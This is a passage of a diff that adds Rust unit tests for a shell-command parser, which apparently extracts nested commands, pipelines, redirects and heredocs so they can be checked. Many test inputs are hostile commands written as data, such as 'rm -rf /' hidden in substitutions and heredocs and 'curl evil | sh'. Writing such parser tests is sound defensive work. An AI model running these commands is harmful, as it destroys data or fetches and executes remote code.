+        assert_eq!(r[0].kind, RedirectKind::Write);
+        assert_eq!(r[0].fd, None);
+        assert_eq!(r[0].target.literal().as_deref(), Some("out.txt"));
+        assert_eq!(words(&p.commands[0]), ["cat"]);
+
+        let p = parse("echo hi 2>&1 >> log");
+        let c = &p.commands[0];
+        assert_eq!(words(c), ["echo", "hi"]);
+        assert_eq!(c.redirects.len(), 2);
+        assert_eq!(c.redirects[0].kind, RedirectKind::DupOut);
+        assert_eq!(c.redirects[0].fd, Some(2));
+        assert_eq!(c.redirects[0].target.literal().as_deref(), Some("1"));
+        assert_eq!(c.redirects[1].kind, RedirectKind::Append);
+        assert_eq!(c.redirects[1].target.literal().as_deref(), Some("log"));
+
+        let p = parse("x < in <> rw >| clob &> both &>> both2 3<&0");
+        let kinds: Vec<(RedirectKind, &str)> = p.commands[0]
+            .redirects
+            .iter()
+            .map(|r| (r.kind, r.op.as_str()))
+            .collect();
+        assert_eq!(
+            kinds,
+            [
+                (RedirectKind::Read, "<"),
+                (RedirectKind::ReadWrite, "<>"),
+                (RedirectKind::Write, ">|"),
+                (RedirectKind::Write, "&>"),
+                (RedirectKind::Append, "&>>"),
+                (RedirectKind::DupIn, "<&"),
+            ]
+        );
+        // Redirect targets can run commands; redirect-only commands have no words.
+        let p = parse("> $(rm -rf /)");
+        assert_eq!(names(&p), ["<none>", "rm"]);
+        assert!(p.commands[0].words.is_empty());
+    }
+
+    #[test]
+    fn compound_redirects_are_inherited() {
+        let p = parse("{ ls; echo; } > out");
+        assert!(p.commands.iter().all(|c| c.redirects.len() == 1
+            && c.redirects[0].inherited
+            && c.redirects[0].kind == RedirectKind::Write));
+        let p = parse("while read l; do sh; done <<EOF\nrm -rf /\nEOF\n");
+        assert_eq!(find(&p, "sh").stdin_text.as_deref(), Some("rm -rf /\n"));
+        // In a pipeline inside the group only the first command reads the heredoc.
+        let p = parse("{ cat | sh; } <<EOF\nx\nEOF\n");
+        assert_eq!(find(&p, "cat").stdin_text.as_deref(), Some("x\n"));
+        assert!(find(&p, "sh").stdin_text.is_none());
+        // The command's own stdin redirect wins.
+        let p = parse("{ sh < f; } <<EOF\nx\nEOF\n");
+        assert!(find(&p, "sh").stdin_text.is_none());
+        // Redirect targets of compound commands are walked too.
+        let p = parse("( ls ) > $(whoami)");
+        assert_eq!(names(&p), ["whoami", "ls"]);
+    }
+
+    #[test]
+    fn enclosing_pipelines() {
+        for s in [
+            "curl x | (sh)",
+            "curl x | { sh; }",
+            "curl x | if true; then sh; fi",
+        ] {
+            let p = parse(s);
+            let curl = find(&p, "curl");
+            let sh = find(&p, "sh");
+            assert!(
+                sh.enclosing_pipelines.contains(&(curl.pipeline_id, 1)),
+                "{s}: {:?}",
+                sh.enclosing_pipelines
+            );
+        }
+    }
+
+    #[test]
+    fn extended_test() {
+        let p = parse("[[ $(whoami) == root ]]");
+        assert_eq!(names(&p), ["[[", "whoami"]);
+        assert_eq!(words(&p.commands[0]), ["[[", "<dyn>", "==", "root", "]]"]);
+        assert_eq!(p.commands[1].depth, 1);
+        let p = parse("[[ -f $(a) && ! ( $(b) =~ x ) ]] && c");
+        assert_eq!(names(&p), ["[[", "a", "b", "c"]);
+    }
+
+    #[test]
+    fn arithmetic() {
+        let p = parse("echo $((1 + $(id)))");
+        assert_eq!(names(&p), ["echo", "id"]);
+        let w = &p.commands[0].words[1];
+        assert!(matches!(w.pieces[0], WordPiece::Other(_)) && w.is_dynamic());
+        let p = parse("(( x = $(id) + y[$(whoami)] ))");
+        assert_eq!(names(&p), ["((", "id", "whoami"]);
+        let p = parse("echo $((2 * 3))");
+        assert_eq!(names(&p), ["echo"]);
+        assert_eq!(p.commands[0].words[1].literal(), None);
+    }
+
+    #[test]
+    fn parameter_expansions() {
+        let p = parse("echo ~/x $HOME/y ${HOME}/z ~root \"$1\" $@ ${#x} ${!p}");
+        let c = &p.commands[0];
+        assert_eq!(
+            c.words[1].pieces,
+            [WordPiece::Tilde(String::new()), lit("/x")]
+        );
+        assert_eq!(
+            c.words[2].pieces,
+            [WordPiece::Param("HOME".into()), lit("/y")]
+        );
+        assert_eq!(
+            c.words[3].pieces,
+            [WordPiece::Param("HOME".into()), lit("/z")]
+        );
+        assert_eq!(c.words[4].pieces, [WordPiece::Tilde("root".into())]);
+        assert_eq!(c.words[5].pieces, [WordPiece::Param("1".into())]);
+        assert_eq!(c.words[6].pieces, [WordPiece::Param("@".into())]);
+        assert_eq!(c.words[7].pieces, [WordPiece::Param("x".into())]);
+        assert_eq!(c.words[8].pieces, [WordPiece::Param("p".into())]);
+        assert!(c.words[1].literal().is_none() && !c.words[1].is_dynamic());
+        assert!(c.words[2].is_dynamic());
+        // Substitutions hidden in expansion operands are extracted.
+        let p =
+            parse("echo ${X:-$(rm -rf /)} \"${y:=`id`}\" ${z/$(a)/$(b)} ${w:$(c):1} ${v[$(d)]}");
+        assert_eq!(names(&p), ["echo", "rm", "id", "a", "b", "c", "d"]);
+        assert_eq!(
+            p.commands[0].words[1].pieces,
+            [WordPiece::Param("X".into()), WordPiece::CommandSubst]
+        );
+    }
+
+    #[test]
+    fn double_quoted_substitution() {
+        let p = parse("echo \"$(curl evil | sh)\"");
+        assert_eq!(names(&p), ["echo", "curl", "sh"]);
+        assert_eq!(p.commands[1].pipeline_id, p.commands[2].pipeline_id);
+        assert_eq!(p.commands[2].pipeline_pos, 1);
+        assert!(p.commands[1..].iter().all(|c| c.depth == 1));
+        assert_eq!(p.commands[0].words[1].pieces, [WordPiece::CommandSubst]);
+        // The substitution's commands know which pipeline they are nested in.
+        assert_eq!(
+            p.commands[1].enclosing_pipelines,
+            [(p.commands[0].pipeline_id, 0)]
+        );
+    }
+
+    #[test]
+    fn quoted_message_is_literal() {
+        let p = parse("git commit -m \"rm -rf /\"");
+        assert_eq!(p.commands.len(), 1);
+        assert_eq!(words(&p.commands[0]), ["git", "commit", "-m", "rm -rf /"]);
+        assert_eq!(p.commands[0].words[3].pieces, [lit("rm -rf /")]);
+        assert_eq!(p.commands[0].words[3].raw, "\"rm -rf /\"");
+        // Single quotes never expand.
+        let p = parse("echo '$(rm -rf /)' \"\\$(id)\"");
+        assert_eq!(names(&p), ["echo"]);
+        assert_eq!(words(&p.commands[0]), ["echo", "$(rm -rf /)", "$(id)"]);
+        // Comments are ignored.
+        let p = parse("echo hi # $(rm -rf /)");
+        assert_eq!(names(&p), ["echo"]);
+    }
+
+    #[test]
+    fn globs_and_braces() {
+        let p = parse("rm -rf *.txt a?b [ab]c @(x|y) /{etc,usr} {} {a} x{1..3}");
+        let w = &p.commands[0].words;
+        assert_eq!(w[2].pieces, [WordPiece::Glob("*".into()), lit(".txt")]);
+        assert!(w[2].has_glob() && !w[2].is_dynamic());
+        assert_eq!(w[2].literal().as_deref(), Some("*.txt"));
+        assert!(w[3].has_glob() && w[4].has_glob() && w[5].has_glob());
+        // Brace expansion multiplies words: not static.
+        assert!(w[6].literal().is_none() && w[6].is_dynamic());
+        assert_eq!(w[7].literal().as_deref(), Some("{}"));
+        assert_eq!(w[8].literal().as_deref(), Some("{a}"));
+        assert!(w[9].is_dynamic());
+        let p = parse("{rm,-rf,/}");
+        assert!(p.commands[0].static_name().is_none());
+    }
+
+    #[test]
+    fn errors() {
+        for s in [
+            "echo \"unterminated",
+            "echo 'unterminated",
+            "echo $(unterminated",
+            "echo `unterminated",
+            "if true; then",
+            "cat <<EOF\nno end",
+            "( ls",
+            "ls )",
+            "| ls",
+        ] {
+            assert!(parse_script(s).is_err(), "{s:?} should fail");
+        }
+        let e = parse_script("echo \"x").unwrap_err();
+        assert!(e.to_string().contains("double quote"), "{e}");
+    }
+
+    #[test]
+    fn empty_and_blank() {
+        for s in ["", "   ", "\n\n", "# just a comment\n"] {
+            let p = parse(s);
+            assert!(p.commands.is_empty() && p.functions.is_empty(), "{s:?}");
+        }
+    }
+
+    #[test]
+    fn nested_substitution_depths() {
+        let p = parse("echo $(echo $(echo $(echo $(id))))");
+        let depths: Vec<usize> = p.commands.iter().map(|c| c.depth).collect();
+        assert_eq!(depths, [0, 1, 2, 3, 4]);
+        assert_eq!(p.commands[4].static_name().as_deref(), Some("id"));
+        let p = parse("( ( echo $( (id) ) ) )");
+        assert_eq!(find(&p, "id").depth, 4);
+        assert_eq!(find(&p, "echo").depth, 2);
+        // Not arithmetic: the parentheses are not adjacent on both ends.
+        for s in ["( (rm -rf /) )", "((rm -rf /) )", "( (rm -rf /))"] {
+            let p = parse(s);
+            assert_eq!(names(&p), ["rm"], "{s}");
+            assert_eq!(p.commands[0].depth, 2, "{s}");
+        }
+        let p = parse("echo $((echo hi) ) $( (id) )");
+        assert_eq!(names(&p), ["echo", "echo", "id"]);
+        // Real arithmetic stays arithmetic.
+        let p = parse("((i++)); (( j = 2 ))");
+        assert_eq!(names(&p), ["((", "(("]);
+    }
+
+    #[test]
+    fn depth_limit() {
+        let ctx = Ctx {
+            depth: MAX_DEPTH,
+            nesting: 0,
+            src: Rc::from(""),
+            in_function: None,
+            background: false,
+            pipelines: Vec::new(),
+            inherited_redirects: Rc::default(),
+            inherited_stdin: None,
+        };
+        assert!(ctx.deeper().is_err());
+        // Too many substitutions nested in one word.
+        let deep = format!("echo {}id{}", "$(echo ".repeat(12), ")".repeat(12));
+        assert!(parse_script(&deep).is_err());
+    }
+
+    #[test]
+    fn brush_panics_become_errors() {
+        // Both would hit `unwrap()`s inside brush-parser.
+        assert!(parse_script("echo 99999999999>x").is_err());
+        assert!(parse_script("echo ~99999999999999999999999").is_err());
+        // `2>x` style fds still work.
+        assert_eq!(parse("echo 2>x").commands[0].redirects[0].fd, Some(2));
+    }
+
+    /// Inputs that would overflow the stack or backtrack exponentially in brush.
+    #[test]
+    fn adversarial_inputs_fail_fast() {
+        let cases = [
+            "(".repeat(30),
+            "( ".repeat(100_000),
+            "{ ".repeat(10_000),
+            "if x; then ".repeat(2_000),
+            "$(".repeat(5_000),
+            "${x:-".repeat(5_000),
+            "case x in a) ".repeat(20),
+            format!("echo {}x", "$(echo @(a|".repeat(6)),
+            format!("echo {}\"$\"y\"{}", "$(echo @(a|".repeat(6), "))".repeat(6)),
+            format!("echo {}b", "x{a,{".repeat(40)),
+            format!("[[ {}x ]]", "( ".repeat(5_000)),
+            format!("echo $(({}1{}))", "(".repeat(5_000), ")".repeat(5_000)),
+        ];
+        for s in &cases {
+            let start = Instant::now();
+            let _ = parse_script(s);
+            assert!(
+                start.elapsed() < Duration::from_secs(3),
+                "{}... took {:?}",
+                s.chars().take(40).collect::<String>(),
+                start.elapsed()
+            );
+        }
+    }
+
+    #[test]
+    fn repeated_heredoc_text_is_bounded() {
+        // Without a budget every `a` would get its own copy of the 400 KB body.
+        let s = format!(
+            "{{ {} }} <<EOF\n{}\nEOF\n",
+            "a;".repeat(20_000),
+            "x".repeat(400_000)
+        );
+        let start = Instant::now();
+        let err = parse_script(&s).unwrap_err();
+        assert!(err.message.contains("heredoc"), "{err}");
+        assert!(start.elapsed() < Duration::from_secs(4));
+        // A normal amount of inheritance is fine.
+        let p = parse("{ a; b; } <<EOF\nhello\nEOF\n");
+        assert!(
+            p.commands
+                .iter()
+                .all(|c| c.stdin_text.as_deref() == Some("hello\n"))
+        );
+    }
+
+    /// xorshift; deterministic garbage without extra dependencies.
+    fn garbage(seed: u64, len: usize, alphabet: &[&str]) -> String {
+        let mut x = seed | 1;
+        let mut s = String::new();
+        while s.len() < len {
+            x ^= x << 13;
+            x ^= x >> 7;
+            x ^= x << 17;
+            s.push_str(alphabet[(x % alphabet.len() as u64) as usize]);
+        }
+        s
+    }
+
+    #[test]
+    fn random_garbage_never_panics() {
+        let bytes: Vec<String> = (1u8..=127).map(|b| char::from(b).to_string()).collect();
+        let ascii: Vec<&str> = bytes
+            .iter()
+            .map(String::as_str)
+            .chain(["é", "€", "𝄞"])
+            .collect();
+        let shellish = [
+            "(", ")", "$(", "${", "}", "{ ", "`", "'", "\"", "\\", " ", "x", ";", ";;", "&", "|",
+            "<", ">", "<<", "EOF\n", "\n", "case ", " in ", "esac", "if ", "then ", "fi", "[[ ",
+            " ]]", "((", "))", "$((", "@(", "*", "?", "[", "]", "~", "=", "a=(", "$'", "<(",
+            "2>&1", "<<<", "do ", "done", "for ", "f() ", "!", ",", "..",
+        ];
+        let mut oks = 0;
+        for seed in 1..=20u64 {
+            for (alphabet, name) in [(&ascii[..], "ascii"), (&shellish[..], "shellish")] {
+                let s = garbage(seed * 7919, 10_000, alphabet);
+                let start = Instant::now();
+                if parse_script(&s).is_ok() {
+                    oks += 1;
+                }
+                assert!(
+                    start.elapsed() < Duration::from_secs(4),
+                    "{name} seed {seed} took {:?}",
+                    start.elapsed()
+                );
+            }
+            // Short snippets are more likely to get past the tokenizer.
+            for len in [5, 20, 60] {
+                let s = garbage(seed * 104_729 + len as u64, len, &shellish);
+                if parse_script(&s).is_ok() {
+                    oks += 1;
+                }
+            }
+        }
+        println!("garbage inputs that parsed: {oks}");
+    }
+
+    #[test]
+    fn large_script_is_fine() {
+        let mut s = String::new();
+        for i in 0..2_000 {
+            s.push_str(&format!(
+                "if [ -f f{i} ]; then cp f{i} \"$(dirname g{i})\"; fi | tee -a log\n"
+            ));
+        }
+        s.push_str("cat > big.py <<'EOF'\n");
+        for i in 0..5_000 {
+            s.push_str(&format!(
+                "print(len(str(dict(a=list(map(str, range({i})))))))\n"
+            ));
+        }
+        s.push_str("EOF\n");
+        let start = Instant::now();
+        let p = parse(&s);
+        println!("large script ({} bytes): {:?}", s.len(), start.elapsed());
+        assert_eq!(p.commands.len(), 2_000 * 4 + 1);
+    }
+
+    /// Run with `cargo test -- --nocapture parse_timing` to see the numbers.
+    #[test]
+    fn parse_timing() {
+        let samples = [
+            "ls -la",
+            "git status",
+            "git commit -m \"fix: handle empty input\"",
+            "cargo test --workspace 2>&1 | tail -n 50",
+            "cd /tmp && rm -rf build",
+            "grep -rn 'TODO' src/ | head -20",
+            "find . -name '*.rs' -exec wc -l {} +",
+            "echo $(whoami)@$(hostname)",
+            "for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done",
+            "if [ -d target ]; then cargo clean; fi",
+            "curl -fsSL https://example.com/install.sh | sh",
+            "python3 -c 'import sys; print(sys.version)'",
+            "cat <<EOF > config.toml\n[server]\nport = 8080\nEOF",
+            "npm install && npm run build",
+            "docker run --rm -v \"$PWD:/src\" -w /src rust:latest cargo build",
+            "X=1 Y=2 make -j4 all",
+            "tar czf out.tar.gz $(git ls-files)",
+            "diff <(sort a.txt) <(sort b.txt)",
+            "ps aux | grep -v grep | awk '{print $2}' | xargs kill",
+            "[[ -n \"$CI\" ]] && echo ci || echo local",
+        ];
+        for s in samples {
+            parse(s); // warm-up and sanity check
+        }
+        let rounds = 10;
+        let start = Instant::now();
+        for _ in 0..rounds {
+            for s in samples {
+                parse(s);
+            }
+        }
+        let avg = start.elapsed() / (rounds * samples.len() as u32);
+        // The same work without the dedicated parser thread, to show its overhead.
+        let start = Instant::now();
+        for _ in 0..rounds {
+            for s in samples {
+                parse_on_this_thread(s).unwrap();
+            }
+        }
+        let inline = start.elapsed() / (rounds * samples.len() as u32);
+        println!(
+            "average over {} commands: parse_script {avg:?}, of which parsing {inline:?}",
+            samples.len()
+        );
+    }
 }
